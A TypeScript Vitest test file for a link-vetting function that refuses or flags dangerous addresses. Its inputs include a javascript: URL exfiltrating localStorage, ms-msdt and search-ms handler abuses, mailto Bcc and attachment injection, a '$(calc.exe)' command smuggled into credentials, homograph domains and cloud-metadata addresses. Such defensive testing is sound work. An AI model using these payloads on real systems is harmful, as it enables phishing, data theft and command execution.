import { describe, expect, it } from 'vitest'
import { decideLink, type LinkPurpose } from './decideLink'

const everyPurpose: readonly LinkPurpose[] = ['chatLink', 'page', 'signIn', 'help', 'icon']

/** Returns 'refused', or the host with its warnings. */
function seen(address: string, purpose: LinkPurpose): string {
  const decision = decideLink(address, purpose)
  return decision.open ? [decision.host, ...decision.warnings].join(' ') : 'refused'
}

const opensNowhere = (title: string, addresses: readonly string[]) =>
  it(title, () => {
    const opened = everyPurpose.flatMap((purpose) => addresses.filter((address) => decideLink(address, purpose).open))
    expect(opened).toEqual([])
  })

describe('decideLink', () => {
  opensNowhere('A02: refuses files and programs of this computer', [
    'file:///C:/Windows/System32/calc.exe',
    'file:///Applications/Calculator.app',
    'FILE:///etc/passwd',
  ])

  opensNowhere('A03: refuses scripts and documents inside of an address, also behind control characters', [
    "javascript:fetch('//x/'+localStorage.k)",
    'java\nscript:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml;base64,PHN2Zy8+',
    'blob:https://example.org/1f2e',
    'vbscript:msgbox(1)',
    'view-source:https://example.org/',
    'about:blank',
  ])

  opensNowhere('A04: refuses the schemes of other programs', [
    'calculator://',
    'ms-msdt:/id PCWDiagnostic',
    'search-ms:query=x&crumb=location:\\\\evil',
    'vscode://file/etc/passwd',
    'ms-officecmd:{}',
    'ssh://example.org',
    'parley://add?x',
    'intent://x#Intent;end',
  ])

  it('A04: opens only mail that a person can look over', () => {
    const mail = (query: string) => seen(`mailto:ann@example.org${query}`, 'chatLink')
    expect(mail('')).toBe('')
    expect(mail(`?subject=Hi&body=${'x'.repeat(2048)}`)).toBe('')
    expect(
      [
        `?body=${'x'.repeat(2049)}`,
        '?attach=/etc/passwd',
        '?ATTACHMENT=/etc/passwd',
        '?bcc=eve@evil.test',
        '?subject=a%0D%0ABcc:eve@evil.test',
        '%0D%0ABcc:eve@evil.test',
      ].map(mail),
    ).toEqual(Array.from({ length: 6 }, () => 'refused'))
    expect(seen('mailto:ann@example.org', 'page')).toBe('refused')
  })

  opensNowhere('A05: refuses what every way of leaving a page might hand over', [
    '',
    '#',
    '/etc/passwd',
    '//evil.test/x',
    'evil.test',
    'https://',
    'ws://evil.test/',
  ])

  opensNowhere('A06: refuses shares of other computers', [
    'file://attacker.test/share/x.lnk',
    'smb://attacker/share',
    '\\\\attacker\\share',
    '//attacker/share',
    'file:////attacker/share',
  ])

  opensNowhere('H03: refuses addresses that hide their host', [
    'https://accounts.google.com@evil.test/',
    'https://accounts.google.com:443@evil.test/',
    'http://a:$(calc.exe)@evil.test/auth',
    'https://evil.test\\@accounts.google.com/',
    'https:\\\\evil.test/',
    `https://${'a'.repeat(3000)}.evil.test/`,
    'https://accounts.google.com..evil.test/',
    'https://google.com\u0000.evil.test/',
    'https://google.com\t.evil.test/',
  ])

  it.each([
    ['https://accounts.google.com.evil.test/', 'accounts.google.com.evil.test lookAlike'],
    ['https://evil.test/#.google.com', 'evil.test'],
    ['https://shop.example.com.au/', 'shop.example.com.au'],
    ['HTTPS://Example.ORG:8443/a?b#c', 'example.org:8443'],
  ])('H03: shows the real host of %s', (address, expected) => {
    expect(seen(address, 'page')).toBe(expected)
  })

  it.each([
    ['https://аpple.com', 'xn--pple-43d.com lookAlike punycode'],
    ['https://аррӏе.com', 'xn--80ak6aa92e.com lookAlike punycode'],
    ['https://xn--80ak6aa92e.com', 'xn--80ak6aa92e.com lookAlike punycode'],
    ['https://gοοgle.com', 'xn--ggle-0nda.com lookAlike punycode'],
    ['https://ɡoogle.com', 'xn--oogle-qmc.com lookAlike punycode'],
    ['https://bücher.example', 'xn--bcher-kva.example punycode'],
    ['https://правительство.example', 'xn--80aealotwbjpid2k.example punycode'],
    ['https://日本ニュース.example', 'xn--zck9awe6ds833acvb.example punycode'],
    ['https://google.com', 'google.com'],
  ])('EL-21, H04: warns of names that imitate others: %s', (address, expected) => {
    expect(seen(address, 'page')).toBe(expected)
  })

  opensNowhere('EL-23, H05: refuses schemes that are no pages', [
    'ftp://example.org/',
    'gopher://example.org/',
    'chrome://settings',
    'filesystem:https://a/b',
  ])

  it.each([
    ['https://2130706433/', '127.0.0.1 loopback ipAddress'],
    ['https://0x7f.1/', '127.0.0.1 loopback ipAddress'],
    ['https://①②⑦.⓪.⓪.①/', '127.0.0.1 loopback ipAddress'],
    ['https://127。0。0。1/', '127.0.0.1 loopback ipAddress'],
    ['https://[::1]/', '[::1] loopback ipAddress'],
    ['https://[::ffff:127.0.0.1]/', '[::ffff:7f00:1] loopback ipAddress'],
    ['http://127.0.0.1:6274/sse?command=calc', '127.0.0.1:6274 loopback ipAddress'],
    ['http://localhost.:6379/', 'localhost.:6379 loopback'],
    ['http://app.localhost:3000/', 'app.localhost:3000 loopback'],
    ['http://localhost.evil.test/', 'refused'],
    ['http://0.0.0.0/', 'refused'],
    ['https://0.0.0.0/', '0.0.0.0 privateNetwork ipAddress'],
    ['https://192.168.1.1/reboot', '192.168.1.1 privateNetwork ipAddress'],
    ['https://10.0.0.1/', '10.0.0.1 privateNetwork ipAddress'],
    ['https://172.31.0.1/', '172.31.0.1 privateNetwork ipAddress'],
    ['https://172.32.0.1/', '172.32.0.1 ipAddress'],
    ['https://169.254.169.254/latest/meta-data', '169.254.169.254 privateNetwork ipAddress'],
    ['https://100.64.0.1/', '100.64.0.1 privateNetwork ipAddress'],
    ['https://[fd00::1]/', '[fd00::1] privateNetwork ipAddress'],
    ['https://[fe80::1]/', '[fe80::1] privateNetwork ipAddress'],
    ['https://[64:ff9b::a00:1]/', '[64:ff9b::a00:1] privateNetwork ipAddress'],
    ['https://[2001:db8::1]/', '[2001:db8::1] ipAddress'],
    ['https://93.184.216.34/', '93.184.216.34 ipAddress'],
    ['https://router/', 'router privateNetwork'],
    ['https://printer.local/', 'printer.local privateNetwork'],
    ['https://metadata.google.internal/', 'metadata.google.internal privateNetwork'],
    ['http://example.org/', 'refused'],
    ['https://example.org/', 'example.org'],
    ['https://example.org/?name=dana%E2%80%AE', 'example.org hiddenCharacters'],
    ['https://example.org/\u202Efdp.exe', 'example.org hiddenCharacters'],
    ['https://example.org/b%C3%BCcher', 'example.org'],
  ])('EL-21, H05: says where a page leads: %s', (address, expected) => {
    expect(seen(address, 'page')).toBe(expected)
  })

  it.each([
    ['https://login.example/authorize?x=1', 'login.example'],
    ['http://127.0.0.1:4000/authorize', '127.0.0.1:4000 loopback ipAddress'],
    ['http://localhost:4000/authorize', 'localhost:4000 loopback'],
    ['http://login.example/authorize', 'refused'],
    ['http://10.0.0.5/authorize', 'refused'],
    ['http://a:$(calc.exe)@evil.test/auth', 'refused'],
    ['https://a:$(calc.exe)@evil.test/auth', 'refused'],
    ['https://login.example/\u0007', 'refused'],
  ])('A01, SE-11: a page to sign in at is encrypted, or on this computer, and hides nothing: %j', (address, expected) => {
    expect(seen(address, 'signIn')).toBe(expected)
  })

  it('opens plain http only from a chat, where it is marked', () => {
    expect(everyPurpose.filter((purpose) => decideLink('http://example.org/', purpose).open)).toEqual(['chatLink'])
  })

  it('hands on only the parsed form of an address', () => {
    expect(decideLink('https:example.org/a b/../c"', 'page')).toEqual({
      open: true,
      href: 'https://example.org/c%22',
      host: 'example.org',
      warnings: [],
    })
  })

  it('IC-02, IC-05: shows icons only as small pictures, or from the server itself', () => {
    const icon = (address: string, origin = 'https://mcp.example') => decideLink(address, 'icon', origin).open
    expect([
      icon('data:image/png;base64,iVBORw0KGgo='),
      icon(`data:image/png;base64,${'A'.repeat(128 * 1024)}`),
      icon('https://mcp.example/icon.png'),
      icon('https://tracker.example/icon.png'),
      icon('http://mcp.example/icon.png'),
    ]).toEqual([true, false, true, false, false])
    expect([
      icon('http://localhost:3000/icon.png', 'http://localhost:3000'),
      icon('http://localhost:3000/icon.png', 'http://localhost:3001'),
      icon('http://localhost:3000/icon.png'),
      icon('http://10.0.0.5/icon.png', 'http://10.0.0.5'),
    ]).toEqual([true, false, false, false])
    const data = ['data:image/svg+xml;base64,AA==', 'data:text/html;base64,AA==', 'data:image/png,AA', 'data:image/gif;base64,AA==']
    expect(data.map((address) => icon(address))).toEqual([false, false, false, false])
  })

  const named = [
    'javascript:alert(1)',
    'file:///C:/x.lnk',
    '\\\\host\\share\\x.lnk',
    'ftp://mcp.example/i',
    'ws://mcp.example/i',
    'parley:i',
    '//host/i',
  ]
  it.each(named)('A10, SE-13: %s opens nowhere, whichever field of a server it stands in', (address) => {
    expect(everyPurpose.map((purpose) => decideLink(address, purpose, 'https://mcp.example').open)).toEqual(everyPurpose.map(() => false))
  })
})
